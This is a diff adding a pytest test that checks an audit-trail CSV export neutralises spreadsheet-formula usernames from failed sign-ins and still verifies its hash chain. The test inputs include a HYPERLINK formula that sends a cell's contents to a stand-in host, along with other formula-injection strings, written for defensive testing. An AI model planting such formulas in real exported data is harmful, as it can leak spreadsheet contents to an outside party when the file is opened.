@@ -130,3 +130,22 @@ def test_the_script_checks_the_chain_with_python_alone_and_names_a_tampered_row(
     trail.write_text(shorter.getvalue(), encoding="utf-8-sig")
     cut = _verify(folder)
     assert cut.returncode == 1 and "rows were cut or added at the end" in cut.stdout
+
+
+def test_formula_cells_of_the_raw_trail_are_inert_and_the_script_still_checks_the_chain(api, tmp_path):
+    """A failed sign-in records the username as typed; opened in a spreadsheet, the raw trail
+    must not run it, and the script must still recompute the exact bytes that were hashed."""
+    typed = ['=HYPERLINK("http://x.example/?"&A1,"Mở")', "@SUM(1+1)", "'=quoted", "-1+2"]
+    for username in typed:
+        refused = api.client.post("/api/v1/auth/token", json={"username": username, "password": "x"})
+        assert refused.status_code == 401, refused.text
+    api.create_procedure()
+    _pack, folder = _extracted(api, tmp_path)
+    text = (folder / "audit-trail" / "audit-trail.csv").read_text(encoding="utf-8-sig")
+    cells = [row["actor_username"] for row in csv.DictReader(io.StringIO(text))
+             if row["action"] == "auth.login_failed"]
+    assert cells == ["'" + username.lower() for username in typed]
+    quoted = ['"' + cell.replace('"', '""') + '"' for cell in cells]
+    assert all(cell in text for cell in quoted)  # quoted, so the apostrophe stays text
+    intact = _verify(folder)
+    assert intact.returncode == 0, intact.stdout + intact.stderr
